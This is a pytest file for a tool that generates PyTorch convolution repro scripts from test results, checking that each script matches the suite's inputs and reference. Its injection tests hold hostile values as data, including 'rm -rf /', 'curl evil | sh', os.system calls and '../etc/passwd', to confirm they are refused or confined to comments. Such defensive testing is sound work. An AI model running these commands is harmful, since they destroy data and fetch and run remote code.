"""`convmatrix repro`: the script a results line makes (every direction, layout, dtype and way of
calling), its inputs and reference against the suite's own, and results values that try to get
into the code."""

from __future__ import annotations

import argparse
import ast
import json
import zlib
from pathlib import Path
from types import ModuleType
from typing import Any

import pytest
import torch

from catalogkit import catalog, load_test_conv, sizing
from convmatrix.cli import repro as repro_cmd
from convmatrix.errors import BadInput
from convmatrix.prove import repro
from testkit import env_json, load_suite_module, record, write_result

SIG = "cuDNN error: CUDNN_STATUS_NOT_SUPPORTED. This error may appear if you passed in a non-contiguous input."
CELL = "baremetal-torch2.5.1-cu124-cudnn9.5.1.17-py3.11"
CASES = {case.id: case for case in catalog.CASES}
ALLOWED_IMPORTS = {"argparse", "importlib.metadata", "math", "platform", "shutil", "subprocess", "sys", "zlib", "torch"}
# The cases the tests name: one per direction, layout, dtype, autocast, memory format, way of calling.
NAMED = {
    "forward": "conv2d-fp32-k3-p1",
    "backward": "conv2d-fp32-k3-p1-g4-bwd",
    "backward_input": "conv2d-fp16-k3-s2-p1-bwd_input-large_batch-dgrad_b70000",
    "double_backward": "conv2d-fp32-k5-p2-double_bwd-double_backward-mnist",
    "double_sliced_bf16": "conv2d-bf16-k3-p1-channels_last-double_bwd-double_backward-r1",
    "double_autocast": "conv2d-fp32-autocast_fp16-k4-s2-p1-double_bwd-double_backward-wgan_gp",
    "nhwc_bf16": "conv2d-bf16-k3-p1-nhwc_strided-non_contiguous-bhwc_3x3",
    "permuted": "conv1d-fp32-k3-permuted-bwd",
    "sliced_layout": "conv2d-fp32-k3-p1-sliced",
    "transposed_layout": "conv2d-fp32-k3-transposed",
    "transposed_op": "conv_transpose2d-fp32-k4-s2-p1-bwd",
    "transposed_3d_sliced": "conv_transpose3d-fp32-k4-s2-p1-large_transposed_3d",
    "channels_last_3d": "conv3d-fp16-k3-p1-channels_last_3d",
    "autocast_bf16": "conv3d-fp32-autocast_bf16-k3-p1-g2",
}


def case_of(key: str) -> catalog.Case:
    return CASES[NAMED[key]]


def line_of(case: catalog.Case, *, status: str = "failed", message: str | None = SIG, scaled: bool = True,
            **extra: Any) -> dict[str, Any]:
    """The results line the suite writes for case on the CPU (the scaled variant's shapes)."""
    ran = sizing.scaled(case) if scaled else case
    facts: dict[str, Any] = {"params": case.params(), "scaled": ran is not case, "sources": list(case.sources),
                             "shapes": {name: list(shape) for name, shape in sizing.shapes(ran).items()}}
    return record(case.id, status, message, **{**facts, **extra})


def cell_meta(cudnn: str = "9.5.1.17", cuda: str = "cu124") -> dict[str, Any]:
    return {"lane": "baremetal", "requested": {"lane": "baremetal", "torch": "2.5.1", "cuda": cuda, "cudnn": cudnn,
                                               "python": "3.11", "base": ""},
            "knobs": "default", "expected": {}, "control": False, "gpu_key": "h200-sm90",
            "gpu": {"index": 0, "name": "NVIDIA H200", "capability": "9.0"}, "ended": "2026-12-02T00:02:00Z"}


def gpu_env(**overrides: Any) -> dict[str, Any]:
    values: dict[str, Any] = {"device": "cuda", "cuda": "12.4", "cudnn": 90501, "driver": "550.54.15",
                              "gpus": [{"index": 0, "name": "NVIDIA H200", "capability": "9.0", "memory_mb": 143771}]}
    return env_json(CELL, **{**values, **overrides})


def a_run(tmp_path: Path, lines: list[dict[str, Any]], *, env: dict[str, Any] | None = None,
          cell: dict[str, Any] | None = None) -> Path:
    run = tmp_path / "run"
    write_result(run, CELL, lines, gpu="h200-sm90", env=env or gpu_env(), cell=cell or cell_meta())
    return run


def script_for(tmp_path: Path, line: dict[str, Any], **kwargs: Any) -> str:
    run = a_run(tmp_path, [line], **kwargs)
    return repro.repro(run, CELL, line["case"])


def code_of(text: str) -> ast.Module:
    return ast.parse(text)


def constant(text: str, name: str) -> Any:
    for node in code_of(text).body:
        if isinstance(node, ast.Assign) and [getattr(t, "id", None) for t in node.targets] == [name]:
            return ast.literal_eval(node.value)
    raise AssertionError(f"no constant {name}")


def imports(text: str) -> set[str]:
    found = set()
    for node in ast.walk(code_of(text)):
        if isinstance(node, ast.Import):
            found |= {alias.name for alias in node.names}
        elif isinstance(node, ast.ImportFrom):
            found.add(node.module or "")
    return found


def as_module(text: str) -> ModuleType:
    """The script's definitions, without running it."""
    module = ModuleType("repro_script")
    exec(compile(text, "repro_script.py", "exec"), module.__dict__)  # the generated text under test
    return module


# --- the script, by direction, layout, dtype ------------------------------------------------------

@pytest.mark.parametrize("case", sorted(CASES), ids=str)
def test_every_catalog_case_makes_a_script_of_torch_alone(case: str, tmp_path: Path) -> None:
    made = CASES[case]
    text = script_for(tmp_path, line_of(made))
    assert imports(text) <= ALLOWED_IMPORTS
    assert not any(word in text for word in ("import convmatrix", "from convmatrix", "__import__", "import_module"))
    assert constant(text, "CASE_ID") == made.id
    assert constant(text, "OP") == made.op
    assert constant(text, "DTYPE") == made.dtype
    assert constant(text, "AUTOCAST") == made.autocast
    assert constant(text, "DIRECTION") == made.kind
    assert constant(text, "LAYOUT") == made.layout
    assert constant(text, "VIA") == made.via
    assert constant(text, "BIAS") == made.bias
    assert constant(text, "MEMORY_FORMAT") == (None if made.memory_format == "contiguous" else made.memory_format)
    ran = sizing.scaled(made)
    assert constant(text, "INPUT_SHAPE") == ran.shapes()["input"]
    assert constant(text, "GROUPS") == ran.groups
    assert constant(text, "SLICED") == sizing.sliced(made)
    assert constant(text, "ALLOW_TF32") == made.tf32
    assert constant(text, "BENCHMARK") == bool(made.benchmark)
    assert constant(text, "DEFAULT_DEVICE") == "cuda"


def test_the_header_names_the_stack_and_how_to_install_it(tmp_path: Path) -> None:
    text = script_for(tmp_path, line_of(case_of("nhwc_bf16")))
    head = text.split("\nimport ")[0]
    assert all(line.startswith("#") or not line for line in head.splitlines())
    assert "# convmatrix repro: conv2d-bf16-k3-p1-nhwc_strided-non_contiguous-bhwc_3x3" in head
    assert "pip install torch==2.5.1 --index-url https://download.pytorch.org/whl/cu124" in head
    assert "pip install nvidia-cudnn-cu12==9.5.1.17" in head
    assert "cuDNN 90501 (9.5.1)" in head
    assert "driver 550.54.15; GPU: NVIDIA H200, capability 9.0" in head
    assert f"status:  failed: RuntimeError: {SIG}" in head
    assert f"cell:    {CELL}@h200-sm90" in head
    assert "# Shapes: the scaled-down variant" in head  # 8x64x64 NHWC, run as the CPU's variant
    assert "#   source:  https://" in head


def test_bundled_cudnn_installs_torch_alone_and_the_variant_falls_back_to_the_torch_label(tmp_path: Path) -> None:
    text = script_for(tmp_path, line_of(case_of("forward")), cell=cell_meta(cudnn="bundled", cuda="image"))
    head = text.split("\nimport ")[0]
    assert "pip install torch==2.5.1 --index-url https://download.pytorch.org/whl/cu124" in head  # from +cu124
    assert "nvidia-cudnn" not in head


def test_shapes_fall_back_to_the_params_when_the_line_has_none(tmp_path: Path) -> None:
    made = case_of("forward")
    line = line_of(made)
    del line["shapes"]
    text = script_for(tmp_path, line)
    assert constant(text, "INPUT_SHAPE") == made.shapes()["input"]
    assert "# Shapes: the scaled-down" not in text


def test_the_device_defaults_to_the_cells_and_can_be_changed(tmp_path: Path) -> None:
    run = a_run(tmp_path, [line_of(case_of("forward"))], env=gpu_env(device="cpu"))
    assert constant(repro.repro(run, CELL, NAMED["forward"]), "DEFAULT_DEVICE") == "cpu"
    assert constant(repro.repro(run, CELL, NAMED["forward"], "cuda"), "DEFAULT_DEVICE") == "cuda"


def test_the_op_is_looked_up_at_call_time() -> None:
    assert 'fn = getattr(torch.nn.functional, OP)' in repro.BODY
    assert "torch.nn.functional.conv" not in repro.BODY and "F.conv" not in repro.BODY


def test_the_bound_and_the_seeding_are_the_suites(tmp_path: Path, pytestconfig: pytest.Config) -> None:
    tolerance = load_suite_module("tolerance")
    test_conv = load_test_conv(pytestconfig)
    script = as_module(script_for(tmp_path, line_of(case_of("forward"))))
    assert script.SAFETY == tolerance.SAFETY
    assert script.UNIT_ROUNDOFF == tolerance.UNIT_ROUNDOFF
    assert script.STORED_AS == tolerance.STORED_AS
    assert script.UNDERFLOW == tolerance.UNDERFLOW
    assert (script.TILE_LIMIT, script.TILE_BLOCK) == (test_conv.TILE_LIMIT, test_conv.TILE_BLOCK)
    assert (script.SLICE_POSITIONS, script.SLICE_CHANNELS) == (sizing.SLICE_POSITIONS, sizing.SLICE_CHANNELS)


@pytest.mark.parametrize("key", sorted(NAMED))
def test_inputs_gradients_and_reference_equal_the_suites(key: str, tmp_path: Path,
                                                         pytestconfig: pytest.Config) -> None:
    """The script's tensors are the suite's, element for element: inputs, output gradient and
    double-backward vector (a slice's block and window too), the float64 reference and its sums
    of |terms|, and each compared tensor's term count."""
    test_conv = load_test_conv(pytestconfig)
    made = case_of(key)
    ran = sizing.scaled(made)
    script = as_module(script_for(tmp_path, line_of(made)))
    generator = torch.Generator().manual_seed(zlib.crc32(made.id.encode("utf-8")))
    inputs = test_conv.make_inputs(ran, generator)
    expected, drawn = test_conv.reference(ran, inputs, generator, sizing.sliced(made), "cpu")
    mine = script.make_inputs("cpu")
    for name in ("input", "weight", "bias"):
        assert torch.equal(mine[name], inputs[name]), name
    for name, theirs in (("grad_output", drawn.grad_output), ("vector", drawn.vector)):
        assert (mine[name] is None) == (theirs is None), name
        if theirs is not None:
            assert torch.equal(mine[name], theirs), name
    with torch.backends.cudnn.flags(enabled=False):
        reference = script.reference(mine)
    for name, want in expected.items():
        ref, magnitude, index, terms = reference[name]
        assert torch.equal(ref, want.ref), name
        assert torch.equal(magnitude, want.magnitude), name
        assert index == want.index, name
        assert terms == want.terms, name


def test_channels_last_knob_and_run_settings_reach_the_script(tmp_path: Path) -> None:
    line = line_of(case_of("forward"), knobs={"device": "cuda", "cudnn_benchmark": True, "cudnn_deterministic": True,
                                              "channels_last": True, "pad_channels": 0})
    text = script_for(tmp_path, line)
    assert constant(text, "CHANNELS_LAST_KNOB") is True
    assert constant(text, "BENCHMARK") is True
    assert constant(text, "DETERMINISTIC") is True


# --- what the results may not do ------------------------------------------------------------------

def params_with(key: str, **changes: Any) -> dict[str, Any]:
    line = line_of(case_of(key))
    line["params"] = {**line["params"], **changes}
    return line


@pytest.mark.parametrize(("line", "field"), [
    (params_with("forward", dtype="float16; import os"), "params.dtype"),
    (params_with("forward", op="__import__('os').system"), "params.op"),
    (params_with("forward", layout="nhwc_strided'\nimport os"), "params.layout"),
    (params_with("forward", direction="backward\nimport os"), "params.direction"),
    (params_with("forward", via="exec"), "params.via"),
    (params_with("forward", stride="1); import os; (1"), "params.stride"),
    (params_with("forward", padding=[1.5, 1]), "params.padding"),
    (params_with("forward", kernel=[True, 3]), "params.kernel"),
    (params_with("forward", groups=3), "params.groups"),
    (params_with("forward", benchmark="on"), "params.benchmark"),
    (params_with("forward", bias=1), "params.bias"),
    (params_with("forward", n=10**60), "params.n"),
    ({**line_of(case_of("forward")), "params": {}}, "params"),
    ({**line_of(case_of("forward")), "shapes": {"input": ["2", 8, 12, 12]}}, "shapes.input"),
    ({**line_of(case_of("forward")), "shapes": {**line_of(case_of("forward"))["shapes"], "output": [2, 16, 99, 12]}},
     "shapes.output"),
    ({**line_of(case_of("forward")), "shapes": {**line_of(case_of("forward"))["shapes"], "weight": [16, 3, 3, 3]}},
     "shapes.weight"),
    ({**line_of(case_of("forward")), "knobs": {"pad_channels": 10**9}}, "knobs.pad_channels"),
    ({**line_of(case_of("forward")), "knobs": {"channels_last": "yes"}}, "knobs.channels_last"),
], ids=lambda value: value if isinstance(value, str) else "")
def test_hostile_values_are_refused(line: dict[str, Any], field: str, tmp_path: Path) -> None:
    with pytest.raises(BadInput, match=f"{field}:") as caught:
        script_for(tmp_path, line)
    assert "\n" not in str(caught.value)


def test_free_text_stays_in_comments(tmp_path: Path) -> None:
    evil = "boom\nimport os; os.system('rm -rf /')\r\x00\u2028print('pwned') \x1b[31m"
    line = line_of(case_of("nhwc_bf16"), message=evil, exc_type="Runtime\nError",
                   sources=["https://example.com/\nimport os", "https://example.com/ok"])
    env = gpu_env(torch="2.5.1\nimport os", driver="550\nimport os",
                  gpus=[{"index": 0, "name": "H200\nimport os", "capability": "9.0\r\nx = 1"}])
    meta = cell_meta(cudnn="9.5.1.17; curl evil | sh", cuda="cu124 && rm -rf /")
    text = script_for(tmp_path, line, env=env, cell=meta)
    tree = code_of(text)  # it parses
    assert imports(text) <= ALLOWED_IMPORTS
    code = [line for line in text.splitlines() if line and not line.startswith("#")]
    assert not any("os.system" in line or "pwned" in line or "x = 1" in line for line in code)
    assert "\x00" not in text and "\r" not in text and "\x1b" not in text and "\u2028" not in text
    assert "https://example.com/ok" in text and "https://example.com/\n" not in text
    assert "pip install torch==" not in text and "--index-url https://download.pytorch.org/whl/cu124 " not in text
    assert "curl" not in text.replace("#   (the cell overrode", "")
    assert not any(isinstance(node, ast.Expr) and isinstance(node.value, ast.Call) for node in tree.body[:-1])


def test_a_case_id_that_is_not_one_is_refused(tmp_path: Path) -> None:
    run = a_run(tmp_path, [line_of(case_of("forward"))])
    for bad in ("../etc/passwd", "x'\nimport os", "", "a b"):
        with pytest.raises(BadInput, match="not a case id"):
            repro.repro(run, CELL, bad)


def test_missing_run_cell_and_case_are_one_line_each(tmp_path: Path) -> None:
    run = a_run(tmp_path, [line_of(case_of("forward"))])
    with pytest.raises(BadInput, match="no such run directory"):
        repro.repro(tmp_path / "nothing", CELL, NAMED["forward"])
    with pytest.raises(BadInput, match="no cell 'other' here"):
        repro.repro(run, "other", NAMED["forward"])
    with pytest.raises(BadInput, match=f"no case {NAMED['backward']}"):
        repro.repro(run, CELL, NAMED["backward"])


def test_a_cell_on_two_gpus_must_be_named_by_its_directory(tmp_path: Path) -> None:
    run = a_run(tmp_path, [line_of(case_of("forward"))])
    write_result(run, CELL, [line_of(case_of("forward"))], gpu="a100-sm80", env=gpu_env(), cell=cell_meta())
    with pytest.raises(BadInput, match="has 2 results; name one"):
        repro.repro(run, CELL, NAMED["forward"])
    assert constant(repro.repro(run, f"{CELL}@a100-sm80", NAMED["forward"]), "CASE_ID") == NAMED["forward"]


# --- the command ----------------------------------------------------------------------------------

def command(*argv: str) -> int:
    top = argparse.ArgumentParser()
    repro_cmd.add_parser(top.add_subparsers(dest="command"))
    return repro_cmd.run(top.parse_args(["repro", *argv]))


def test_the_command_writes_one_script_or_one_per_failing_case(tmp_path: Path,
                                                               capsys: pytest.CaptureFixture[str]) -> None:
    crashed = record("conv2d-fp32-k3-p1-dilated2", "crashed", "the process died")
    run = a_run(tmp_path, [line_of(case_of("forward")), line_of(case_of("backward"), status="passed", message=None),
                           line_of(case_of("nhwc_bf16")), crashed])
    assert command(str(run), CELL, NAMED["forward"]) == 0
    assert constant(capsys.readouterr().out, "CASE_ID") == NAMED["forward"]
    out = tmp_path / "one.py"
    assert command(str(run), CELL, NAMED["forward"], "-o", str(out), "--device", "cpu") == 0
    assert constant(out.read_text(), "DEFAULT_DEVICE") == "cpu"
    folder = tmp_path / "all"
    with pytest.raises(BadInput, match=r"no script: case conv2d-fp32-k3-p1-dilated2: params: none"):
        command(str(run), CELL, "--all", "-o", str(folder))
    assert sorted(p.name for p in folder.iterdir()) == sorted([f"repro-{NAMED['forward']}.py", f"repro-{NAMED['nhwc_bf16']}.py"])
    with pytest.raises(BadInput, match="name one CASE, or give --all"):
        command(str(run), CELL)
    with pytest.raises(BadInput, match="name one CASE, or give --all"):
        command(str(run), CELL, NAMED["forward"], "--all")


def test_a_cell_without_failing_cases_has_nothing_for_all(tmp_path: Path) -> None:
    run = a_run(tmp_path, [line_of(case_of("forward"), status="passed", message=None)])
    with pytest.raises(BadInput, match="has no failing case"):
        command(str(run), CELL, "--all", "-o", str(tmp_path / "x"))


def test_a_direct_run_without_cell_json_still_makes_a_script(tmp_path: Path) -> None:
    run = tmp_path / "run"
    line = line_of(case_of("forward"))
    write_result(run, "direct", [line], env=env_json("direct"))
    text = repro.repro(run, "direct", line["case"])
    assert "pip install torch==2.5.1 --index-url https://download.pytorch.org/whl/cu124" in text
    assert json.loads(json.dumps(constant(text, "INPUT_SHAPE"))) == line["shapes"]["input"]


# --- issue 39: any view ----------------------------------------------------------------------------
VIEW_CASES = {
    "pytorch3512": catalog.Case("conv_transpose1d", 1, 1024, 1, 1, 1, source="test", input_strides=(1024, 1, 1),
                                direction="backward", prefix="views", tag="pytorch3512"),
    "nhwc_weight_nchw": catalog.Case("conv2d", 2, 8, 4, (6, 6), 3, source="test", memory_format="channels_last",
                                     weight_memory_format="contiguous", prefix="views", tag="cl"),
    "scaled_offset": catalog.Case("conv2d", 16, 256, 256, (64, 64), 3, padding=1, dtype="bfloat16", source="test",
                                  input_strides=(2 * 256 * 64 * 64, 1, 2 * 256 * 64, 2 * 256), storage_offset=12289,
                                  direction="backward", prefix="views", tag="scaled"),
}


def view_line(case: catalog.Case, **extra: Any) -> dict[str, Any]:
    """The line the suite writes for a case with a view: its `view`, the strides the conv got."""
    ran = sizing.scaled(case)
    view = None if ran.input_strides is None else {"input_strides": list(ran.input_strides),
                                                   "storage_offset": ran.storage_offset}
    return line_of(case, view=view, **extra)


@pytest.mark.parametrize("key", sorted(VIEW_CASES))
def test_the_script_builds_the_view_the_suite_built(key: str, tmp_path: Path, pytestconfig: pytest.Config) -> None:
    test_conv = load_test_conv(pytestconfig)
    made = VIEW_CASES[key]
    ran = sizing.scaled(made)
    text = script_for(tmp_path, view_line(made))
    assert constant(text, "INPUT_STRIDES") == ran.input_strides
    assert constant(text, "STORAGE_OFFSET") == ran.storage_offset
    assert constant(text, "WEIGHT_MEMORY_FORMAT") == made.weight_memory_format
    script = as_module(text)
    x = torch.randn(ran.shapes()["input"])
    remedy = test_conv.Remedy(False, 0)
    theirs = test_conv.place_input(ran, x, test_conv.memory_format_for(ran, remedy, x.dim()))
    mine = script.place_input(x, script.memory_format(x.dim()))
    assert (mine.stride(), mine.storage_offset()) == (theirs.stride(), theirs.storage_offset())
    assert torch.equal(mine, x) and torch.equal(theirs, x)
    weight = torch.randn(ran.shapes()["weight"])
    fmt = script.FORMATS[script.WEIGHT_MEMORY_FORMAT] if script.WEIGHT_MEMORY_FORMAT else script.memory_format(4)
    suite_fmt = test_conv.weight_format_for(ran, remedy, weight.dim())
    if fmt is not None or suite_fmt is not None:
        assert weight.contiguous(memory_format=fmt).stride() == weight.contiguous(memory_format=suite_fmt).stride()
    if key == "nhwc_weight_nchw":  # a channels_last input beside an NCHW weight
        assert theirs.is_contiguous(memory_format=torch.channels_last) and not theirs.is_contiguous()
        assert weight.contiguous(memory_format=suite_fmt).is_contiguous()


@pytest.mark.parametrize(("view", "field"), [
    ({"input_strides": ["1", 1, 1], "storage_offset": 0}, "view.input_strides"),
    ({"input_strides": [1024, -1, 1], "storage_offset": 0}, "view.input_strides"),
    ({"input_strides": [1024, 1], "storage_offset": 0}, "view.input_strides"),
    ({"input_strides": 7, "storage_offset": 0}, "view.input_strides"),
    ({"input_strides": [1024, 1, 1], "storage_offset": "0"}, "view.storage_offset"),
    ({"input_strides": [0, 0, 0], "storage_offset": 0}, "view.input_strides"),
    ({"input_strides": [1024, 2**40, 1], "storage_offset": 0}, "view.input_strides"),
], ids=str)
def test_a_hostile_view_is_refused(view: dict[str, Any], field: str, tmp_path: Path) -> None:
    with pytest.raises(BadInput, match=f"{field}:") as caught:
        script_for(tmp_path, line_of(VIEW_CASES["pytorch3512"], view=view))
    assert "\n" not in str(caught.value)


def test_a_view_with_a_memory_format_is_refused(tmp_path: Path) -> None:
    """h39: a line claiming both (no Case makes one) made a script that built the view and then
    rewrote it in channels_last: not the view it printed in INPUT_STRIDES."""
    case = catalog.Case("conv2d", 2, 8, 4, (6, 6), 3, source="test", input_strides=(288, 1, 48, 8), prefix="views",
                        tag="nhwc")
    line = line_of(case, scaled=False)
    line["params"]["memory_format"] = "channels_last"
    with pytest.raises(BadInput, match=r"params\.input_strides: a memory_format and the view's strides, not both"):
        script_for(tmp_path, line)
    assert constant(script_for(tmp_path / "as_written", line_of(case, scaled=False)), "INPUT_STRIDES") == (288, 1, 48, 8)


def test_a_scaled_view_without_the_lines_view_is_refused(tmp_path: Path) -> None:
    with pytest.raises(BadInput, match="view: missing for a case run at another shape"):
        script_for(tmp_path, line_of(VIEW_CASES["scaled_offset"]))
    # Run as written, the params' own strides are the view.
    text = script_for(tmp_path / "as_written", line_of(VIEW_CASES["pytorch3512"]))
    assert constant(text, "INPUT_STRIDES") == (1024, 1, 1)
